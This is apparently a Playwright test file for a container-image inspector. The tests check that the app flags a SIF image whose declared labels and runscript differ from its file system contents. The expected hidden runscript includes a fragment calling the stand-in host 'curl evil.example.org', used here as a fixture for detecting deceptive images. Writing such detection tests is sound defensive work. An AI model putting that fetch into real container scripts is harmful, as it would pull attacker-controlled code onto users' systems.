/** An image page holds what the image says of itself against what is in its file system. */
import { join } from 'node:path'
import { createSif } from '../../src-main/engine/sif/create.ts'
import { containerPartition } from '../support/container-partition.ts'
import { definitionObject, metadataObject } from '../support/make-sif.ts'
import { filesObstacle } from '../support/squashfs-tree.ts'
import { expect, expectAccessible, test } from './support/app.ts'

const obstacle = filesObstacle()
test.skip(obstacle !== null, obstacle ?? '')

test('a claim that is not true is seen beside what is', async ({ app, page }) => {
  const partition = await containerPartition(app.home)
  const path = join(app.home, 'lying.sif')
  const said = { labels: { Name: 'inside' }, runscript: '#!/bin/sh\nexec harmless', deffile: 'Bootstrap: docker' }
  await createSif(path, { objects: [metadataObject(said), partition] })
  await page.evaluate((address) => location.assign(address), `#/image?path=${encodeURIComponent(path)}`)
  const notice = page.getByRole('status').filter({ hasText: 'not what is in it' })
  await expect(notice).toContainText(
    'Its file system has other contents for: environment /.singularity.d/env/90-environment.sh, runscript, app one.',
  )
  await expectAccessible(page)

  // By keyboard alone to what is really run.
  const show = page.getByRole('button', { name: 'Show what is in it' })
  await show.focus()
  await page.keyboard.press('Enter')
  const scripts = page.getByRole('listbox', { name: 'Scripts' })
  await expect(scripts.getByRole('option', { name: '90-environment.sh' })).toHaveAttribute('aria-selected', 'true')
  await scripts.getByRole('option', { name: '90-environment.sh' }).press('ArrowDown')
  await expect(page.getByRole('region', { name: 'Runscript' })).toContainText('curl evil.example.org')
  await expectAccessible(page)
})

test('an image of which only its file system tells is shown by that', async ({ app, page }) => {
  const path = join(app.home, 'silent.sif')
  await createSif(path, { objects: [definitionObject(), await containerPartition(app.home)] })
  await page.evaluate((address) => location.assign(address), `#/image?path=${encodeURIComponent(path)}`)
  await expect(page.getByText('Its labels and scripts were read from its file system')).toBeVisible()
  await expect(page.getByRole('row').filter({ hasText: 'Name' }).getByText('inside')).toBeVisible()
  await page.getByRole('tab', { name: /Scripts/ }).click()
  await expect(page.getByRole('region', { name: 'Runscript' })).toContainText('curl evil.example.org')
})
